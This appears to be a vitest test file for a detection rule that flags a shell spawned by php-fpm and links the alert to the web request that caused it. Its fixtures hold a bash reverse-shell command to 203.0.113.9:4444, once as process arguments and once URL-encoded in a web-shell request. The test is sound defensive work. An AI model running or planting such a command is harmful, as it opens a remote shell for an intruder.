import { expect, test } from 'vitest';
import type { SourceEvent } from '../../common/event/source_event';
import type { WebRequest } from '../../common/request/web_request';
import { extendedRule } from '../../common/rule/extended_rule';
import type { RuleDefinition } from '../../common/rule/rule_definition';
import { toShippedParams } from '../../common/rule/rule_params';
import { webServerRule } from '../../common/rule/web_server_rule';
import type { RequestReader } from '../../server/ports/request_reader';
import { createExecutor } from '../../server/rule_type/executor';
import type { RuleState } from '../../server/rule_type/rule_state';
import { createMemoryAdapters } from '../doubles/memory_adapters';
import { NO_EVIDENCE } from '../doubles/no_evidence';
import { createRuleRun } from '../doubles/rule_run';

const NOON = Date.UTC(2026, 10, 24, 12);

const EXEC: SourceEvent = {
  id: 'sh',
  index: 'logs-endpoint.events.process-default',
  source: {
    '@timestamp': new Date(NOON).toISOString(),
    event: { category: ['process'], type: ['start'], action: 'exec' },
    host: { id: 'h', name: 'web-01', os: { type: 'linux' } },
    user: { name: 'www-data' },
    process: {
      ...{ entity_id: 'sh', name: 'sh', executable: '/usr/bin/sh' },
      args: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
      parent: {
        ...{ entity_id: 'fpm', name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2' },
        args: ['php-fpm: pool www'],
      },
      Ext: { ancestry: ['fpm'] },
    },
  },
};
const REQUEST: WebRequest = {
  ...{ time: NOON + 30_000, precision: 1000, address: '203.0.113.9' },
  target: '/x.php?c=bash%20-i%20%3E%26%20/dev/tcp/203.0.113.9/4444%200%3E%261',
};

/** A rule whose runs know of earlier ones by their state alone, and a log that answers late. */
const createHost = (definition: RuleDefinition, find: RequestReader['find']) => {
  const { adapters, ...memory } = createMemoryAdapters([EXEC]);
  let state: RuleState = {};
  return {
    ...memory,
    async runAt(second: number) {
      const { run, warnings, errors } = createRuleRun({
        startedAt: new Date(NOON + second * 1000).toISOString(),
        updatedAt: new Date(NOON - 3_600_000),
        state,
        params: toShippedParams(definition),
      });
      const withLog = { ...adapters, createRequestReader: () => ({ find }) };
      const execute = createExecutor(withLog, NO_EVIDENCE, 'en', () => new Date(0));
      state = JSON.parse(JSON.stringify((await execute(run)).state)) as RuleState;
      const reported = memory.reported.map(({ payload }) => payload);
      memory.storeReported();
      return { reported, warnings: [...warnings, ...errors] };
    },
  };
};

test.each([
  ['the seed’s rule', webServerRule],
  ['the extended rule', extendedRule],
])('%s adds to its alert the request that is logged when it ends', async (_what, definition) => {
  const lines: WebRequest[] = [];
  const host = createHost(definition, async () => {
    await new Promise((resolve) => setImmediate(resolve));
    return { requests: [...lines], isCut: false, logs: ['/l'], unread: [] };
  });
  const { reported } = await host.runAt(5);
  expect(reported).toHaveLength(1);
  expect(reported[0]).not.toHaveProperty('source');
  lines.push(REQUEST);
  await host.runAt(305);
  expect(host.grown).toMatchObject([{ payload: { source: { ip: '203.0.113.9' } } }]);
  await host.runAt(605);
  expect(host.grown).toHaveLength(1);
});

test('a log that can not be read costs a run no alert, and is said', async () => {
  const unread = [{ log: '/l', reason: 'permission denied' }];
  const host = createHost(webServerRule, async () => ({
    ...{ requests: [], isCut: false, logs: ['/l'], unread },
  }));
  const { reported, warnings } = await host.runAt(90);
  expect(reported).toHaveLength(1);
  expect(warnings).toEqual([expect.stringContaining('(/l: permission denied)')]);
});
